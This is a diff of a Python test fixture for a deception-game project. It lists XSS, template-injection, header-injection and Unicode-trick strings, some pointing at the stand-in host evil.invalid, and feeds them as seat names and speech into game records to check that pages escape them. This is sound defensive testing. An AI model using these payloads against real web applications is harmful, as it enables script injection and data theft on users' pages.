@@ -1,4 +1,4 @@
-"""Two hundred strings that a page must show as words: markup, scripts, templates, broken attributes, odd characters.
+"""Strings that a page must show as words, and a run whose every word from a player, a model or a file is one.
 
 Every element among them has the attribute `evil`, every script calls `fired`, and every address is at evil.invalid.
 """
@@ -6,208 +6,101 @@ Every element among them has the attribute `evil`, every script calls `fired`, a
 from __future__ import annotations
 
 import html
+from collections.abc import Iterator, Sequence
+from pathlib import Path
+from typing import Any
 from urllib.parse import quote
+
+from liescope.games.core import Event, EventKind, Outcome, Phase
+from liescope.games.record import GameRecord, Seat, Source, Status
+from liescope.generate.runs.journal import Journal
 
 _TAGS = (
     "<script evil>fired()</script>",
-    "<SCRIPT EVIL>alert(1)</SCRIPT>",
-    "<script evil src=//evil.invalid/a.js></script>",
-    "<script evil type=module>fired()</script>",
-    "<script evil>fired()//",
-    "<scr<script evil>ipt>fired()</script>",
-    "<script/evil>fired()</script>",
-    "<script\tevil\n>fired()</script\n>",
-    "<<script evil>fired();//<</script>",
     "<img evil src=x onerror=fired()>",
-    '<img evil src="x" onerror="alert(1)">',
-    "<img evil src=//evil.invalid/a.png>",
-    "<img evil srcset='//evil.invalid/b.png 2x'>",
-    "<IMG EVIL SRC=x OnErRoR=alert(1)>",
-    "<img/evil/src=x/onerror=fired()>",
-    "<img evil src=x onerror\n=\nfired()>",
     "<img evil src=x onerror=&#102;ired()>",
-    "<image evil href=x onerror=fired()>",
-    "<picture evil><source srcset=//evil.invalid/c.png><img evil></picture>",
-    "<video evil autoplay onloadstart=fired() src=//evil.invalid/d.mp4></video>",
-    "<audio evil src=x onerror=fired()></audio>",
-    "<video evil><source evil onerror=fired()></video>",
-    "<body evil onload=fired()>",
     "<input evil autofocus onfocus=fired()>",
-    "<select evil autofocus onfocus=fired()></select>",
-    "<textarea evil autofocus onfocus=fired()></textarea>",
-    "<button evil popovertarget=x onbeforetoggle=fired()>b</button>",
-    "<details evil open ontoggle=fired()>d</details>",
-    "<marquee evil onstart=fired()>m</marquee>",
     "<div evil onpointerenter=fired() onclick=fired()>over</div>",
-    "<div evil onanimationstart=fired() style=animation:x></div>",
     "<svg evil onload=fired()>",
-    "<svg evil><script evil>fired()</script></svg>",
-    "<svg evil><animate evil onbegin=fired() attributeName=x dur=1s>",
-    "<svg evil><set evil onbegin=fired() attributeName=x>",
     "<svg evil><a evil xlink:href=javascript:fired()><text>t</text></a></svg>",
-    "<svg evil><use evil href=//evil.invalid/e.svg#x></svg>",
-    "<svg evil><foreignObject><img evil src=x onerror=fired()></foreignObject></svg>",
-    "<svg evil><style><img evil src=x onerror=fired()></style></svg>",
-    "<math evil><mtext><table><mglyph><style><img evil src=x onerror=fired()>",
-    "<math evil href=javascript:fired()>m</math>",
-    "<iframe evil src=javascript:fired()></iframe>",
     "<iframe evil srcdoc='<script>parent.fired()</script>'></iframe>",
-    "<iframe evil src=//evil.invalid/f onload=fired()></iframe>",
-    "<frameset evil onload=fired()>",
     "<object evil data=//evil.invalid/g></object>",
-    "<object evil data=javascript:fired()></object>",
-    "<embed evil src=//evil.invalid/h>",
     "<base evil href=//evil.invalid/>",
     "<link evil rel=stylesheet href=//evil.invalid/i.css>",
-    "<link evil rel=preload as=image href=//evil.invalid/j>",
-    "<link evil rel=prefetch href=//evil.invalid/k>",
     "<meta evil http-equiv=refresh content='0;url=//evil.invalid/l'>",
-    "<meta evil http-equiv=Content-Security-Policy content=''>",
     "<style evil>*{background:url(//evil.invalid/m)}</style>",
-    "<style evil>@import '//evil.invalid/n.css';</style>",
-    "<b evil style='position:fixed;inset:0;background:red'>red</b>",
     "<a evil href=javascript:fired()>a</a>",
-    "<a evil href='java\tscript:fired()'>a</a>",
-    "<a evil href=data:text/html,<script>fired()</script>>a</a>",
-    "<a evil ping=//evil.invalid/o href=/>a</a>",
     "<form evil action=//evil.invalid/p><button evil>send</button></form>",
-    "<form evil><button evil formaction=javascript:fired()>x</button></form>",
     "<input evil form=form name=form value=forged>",
-    "<template evil><img evil src=x onerror=fired()></template>",
-    "<div evil><template shadowrootmode=open><img evil src=x onerror=fired()></template></div>",
     "<noscript><p title='</noscript><img evil src=x onerror=fired()>'>",
     "<plaintext evil>",
-    "<xmp evil><img evil src=x onerror=fired()></xmp>",
-    "<dialog evil open>Log in again: <input evil></dialog>",
     "<img evil id=location name=cookie>",
-    "<h2 evil>You are the detective</h2>",
-    "<table evil><tr><td>t",
     "<div evil",
-    "<a evil href=",
     "<!doctype html><html evil><head>",
 )
 _HTMX = (
     "<p evil hx-get=//evil.invalid/r hx-trigger=load>h</p>",
     "<p evil data-hx-get=/evil data-hx-trigger=load>h</p>",
     "<p evil hx-on:load=fired()>h</p>",
-    "<p evil hx-on::load='fired()'>h</p>",
-    "<p evil hx-on=load:fired()>h</p>",
-    "<p evil hx-trigger='load[fired()]' hx-get=/evil>h</p>",
-    "<p evil hx-vals='js:{a:fired()}' hx-get=/evil hx-trigger=load>h</p>",
-    "<p evil hx-ext=sse sse-connect=//evil.invalid/s sse-swap=message>h</p>",
     "<p evil hx-swap-oob=true id=ask>You have voted.</p>",
-    "<ul evil id=chairs hx-swap-oob=true><li>gone</ul>",
-    "<p evil hx-boost=true><a evil href=//evil.invalid/t>h</a></p>",
-    "<p evil hx-include=body hx-post=//evil.invalid/u hx-trigger='every 1s'>h</p>",
 )
 _OUT_OF = (
     '"',
     "'",
-    "`",
     '">',
-    "'>",
-    "`>",
-    '"/>',
     "-->",
-    "--!>",
-    "]]>",
     "</title>",
     "</textarea>",
     "</script>",
     "</style>",
-    "</select>",
-    "</option>",
-    "</pre>",
-    "</li></ol>",
-    "</svg>",
-    "</noscript>",
-    "</details></section>",
-    "</p></blockquote></form>",
-    "*/",
 )
 _ATTRIBUTES = (
     '" evil onmouseover="fired()',
     "' evil onmouseover='fired()",
-    "` evil onmouseover=`fired()",
-    " evil onmouseover=fired() ",
     '" evil autofocus onfocus="fired()" x="',
-    "' evil autofocus onfocus='fired()' x='",
     '" evil style="background:url(//evil.invalid/v)" x="',
-    '" evil hx-get="//evil.invalid/w" hx-trigger="load" x="',
-    "' evil sse-connect='//evil.invalid/x",
-    '" evil srcdoc="<script>fired()</script>',
-    'x" evil onpointerenter=fired() y="',
     '"\x0bevil\x0conclick="fired()',
 )
 _TEMPLATES = (
     "{{ 7 * 7 }}",
     "{{ ''.__class__.__mro__[1].__subclasses__() }}",
-    "{{ config }} {{ request }} {{ self }}",
-    "{% for x in range(9) %}boom{% endfor %}",
     "{% include 'base.html' %}",
-    "{# hidden #} {{ link('/') | safe }}",
-    "{%raw%}<img evil src=x onerror=fired()>{%endraw%}",
     "${fired()} #{fired()} <%= fired() %> @{fired()}",
     "{{constructor.constructor('fired()')()}}",
     "%(name)s %s %n {0.__class__} {name!r:>9}",
 )
 _ADDRESSES = (
     "javascript:fired()",
-    "JaVaScRiPt:alert(1)",
-    " javascript:fired()",
-    "java\nscript:fired()",
-    "\x01javascript:fired()",
-    "javascript://evil.invalid/%0afired()",
     "data:text/html;base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+",
-    "vbscript:fired()",
     "//evil.invalid/",
     "https://evil.invalid/?a=1&b=<2>#c",
-    "../../../etc/passwd",
     "/?words=x&model=y#z",
 )
 _SCRIPTS = (
     "';fired();//",
-    '";fired();//',
     "`${fired()}`",
-    "\\';fired();//",
     "</script><script evil>fired()</script>",
     "<!--<script evil>fired()",
-    "<![CDATA[<img evil src=x onerror=fired()>]]>",
-    "<?xml version='1.0'?><img evil src=x onerror=fired()>",
     "<!-- comment --><!---->",
     '{"__proto__": {"evil": true}}',
-    "*{} body{background:url(//evil.invalid/y)}",
-    "expression(fired()) url(javascript:fired())",
     "\nevent: page\ndata: <img evil src=x onerror=fired()>\n\n",
-    "\r\rdata: forged\r\rid: 9\rretry: 1",
     "x\r\nSet-Cookie: evil=1\r\n\r\n<img evil src=x onerror=fired()>",
-    ": still here\n\nevent: log\ndata: 1",
 )
 _LETTERS = (
     "right \u202eot tfel\u202c and back",
     "\u2066isolated\u2069 \u2067right\u2069 \u200f\u200e marks \u061c",
-    "\u202d\u202e\u202b\u202a left open",
     "zero\u200bwidth\u200djoined\u2060and\ufeffmarked",
     "a half \ud83d character, and \udc00 another",
     "NUL \x00 in <im\x00g evil src=x onerror=fired()>",
     "bell \x07 escape \x1b[31m delete \x7f back \x08\x08",
-    "C1 \x85 \x9b31m \x90",
     "two\u2028lines\u2029of\u0085words",
     "tab\tfeed\x0cvertical\x0breturn\rline\nend",
     "שלום עולם, <b evil>מודגש</b>",
-    "مرحبا بالعالم </p>",
     "Z\u0351\u036b\u0343\u036a\u0302A\u0321\u0489L\u0334\u0358G\u0335O" + "\u0336" * 30,
     "👩\u200d🚀 🏳️\u200d🌈 \U000e0041\U000e0042",
     "＜script evil＞fired()＜/script＞",
-    "‹img evil src=x onerror=fired()›",
-    "\ufffe\uffff\U0010ffff \ue000",
-    "+ADw-script evil+AD4-fired()+ADw-/script+AD4-",
-    "ſcript \u212a İ ı ß ﬀ",
     "w" * 400,
-    "<" * 200,
     "&" * 200,
-    "漢" * 200,
-    "a/b" * 90,
 )
 _ENCODED = tuple(
     encoded
@@ -215,7 +108,6 @@ _ENCODED = tuple(
     for encoded in (
         html.escape(payload),
         html.escape(html.escape(payload)),
-        "".join(f"&#{ord(letter)};" for letter in payload),
         "".join(f"&#x{ord(letter):x}" for letter in payload),
         quote(payload),
     )
@@ -232,3 +124,66 @@ HOSTILE = (
     *_LETTERS,
     *_ENCODED,
 )
+
+
+SEATS = 50
+ID = "\"><img evil src=x onerror=fired()>{{7*7}}'"
+
+
+def make(folder: Path) -> list[GameRecord]:
+    """Such a run, and its records: each string is the name of a seat, and stands in whatever that seat says or is."""
+    games = [_game(first // SEATS, HOSTILE[first : first + SEATS]) for first in range(0, len(HOSTILE), SEATS)]
+    with Journal.create(folder, {"import": ID, "options": {ID: ID}}) as journal:
+        for game in games:
+            journal.add_record(game)
+    return games
+
+
+def shown_in(game: GameRecord) -> Iterator[str]:
+    """What the page of a game shows to all-knowing eyes."""
+    for seat in game.seats:
+        yield from (seat.name, seat.role, seat.team, seat.model)
+    for event in game.events:
+        yield event.text
+        yield str(event.data.get("private", {}).get("reasoning", ""))
+        yield str(event.data.get("assessment", {}).get("reason", ""))
+        yield from (text for _, text in event.data.get("lessons", ()))
+
+
+def _game(number: int, strings: Sequence[str]) -> GameRecord:
+    seats = tuple(
+        Seat(one, f"role {one}", f"team {one}", place % 2 == 0, f"model {one}", Source.MODEL)
+        for place, one in enumerate(strings)
+    )
+    events: list[Event] = []
+
+    def log(kind: EventKind, phase: Phase, **facts: Any) -> int:
+        events.append(Event(len(events), kind, 0 if phase is Phase.SETUP else 1, phase, **facts))
+        return len(events) - 1
+
+    log(EventKind.SETUP, Phase.SETUP, data={"names": list(strings), "composition": {f"role {strings[0]}": 2}})
+    for seat in seats:
+        mine: dict[str, Any] = {"actor": seat.name, "audience": (seat.name,)}
+        log(EventKind.ROLE, Phase.SETUP, **mine, data={"role": seat.role})
+        log(EventKind.LESSONS, Phase.SETUP, **mine, data={"lessons": [("to_do", f"lesson {seat.name}")]})
+    log(EventKind.ACT, Phase.NIGHT, actor=strings[1], text=f"hides {strings[1]}", audience=(strings[1],))
+    for place, one in enumerate(strings):
+        peer = strings[place - 1]
+        private = {"reasoning": f"thought {one}", "planted_type": f"kind {one}", f"key {one}": f"value {one}"}
+        said = log(EventKind.STATEMENT, Phase.DISCUSSION, actor=one, text=f"said {one}", data={"private": private})
+        about: dict[str, Any] = {"target": one, "about": said}
+        own = {"deceptive": place % 3 == 0, "type": "omission", "confidence": 0.5, "reason": f"own reason {one}"}
+        log(EventKind.SELF_REPORT, Phase.DISCUSSION, actor=one, audience=(one,), **about, data={"assessment": own})
+        view = {"deceptive": place % 4 == 0, "confidence": 0.5, "suspicion": 0.6, "reason": f"peer reason {one}"}
+        log(EventKind.RATING, Phase.DISCUSSION, actor=peer, audience=(peer,), **about, data={"assessment": view})
+    for place, one in enumerate(strings):
+        log(EventKind.VOTE, Phase.VOTING, actor=one, target=strings[place - 1], fallback=f"fallback {one}")
+    log(EventKind.EXILE, Phase.VOTING, target=strings[0], data={"votes": 2, "needed": 1})
+    log(EventKind.END, Phase.END, data={"winner": f"team {strings[0]}"})
+    learner: dict[str, Any] = {"actor": strings[1], "audience": (strings[1],)}
+    log(EventKind.LESSON, Phase.END, **learner, text=f"learned {strings[1]}", data={"kind": "to_do"})
+    outcome = Outcome(f"team {strings[0]}", tuple(strings[::2]), f"reason {strings[2]}", 1)
+    cell, meta = f"cell {strings[3]}", {"seating": strings[4]}
+    return GameRecord(
+        f"{number}{ID}", f"rules {strings[5]}", 7, cell, seats, tuple(events), Status.DONE, outcome, "", meta
+    )
